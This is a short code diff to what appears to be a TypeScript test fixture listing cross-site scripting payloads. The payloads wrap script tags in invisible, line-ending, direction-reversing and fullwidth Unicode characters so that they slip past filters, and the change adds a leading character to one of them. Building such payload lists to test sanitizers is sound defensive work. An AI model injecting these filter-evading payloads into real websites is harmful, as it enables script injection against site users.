@@ -59,7 +59,7 @@ export const payloads: readonly string[] = [
   // characters that end lines, are invisible, or reverse the direction of text
   `x\u2028<script>${hit}</script>\u2029x`,
   `x\u2028${hit}//`,
-  `\ufeff<script>${hit}</script>`,
+  `x\ufeff<script>${hit}</script>`,
   `\u202e<script>${hit}</script>\u202c`,
   `<\u200bscript>${hit}</\u200bscript>`,
   `\uff1cscript\uff1e${hit}\uff1c/script\uff1e`,
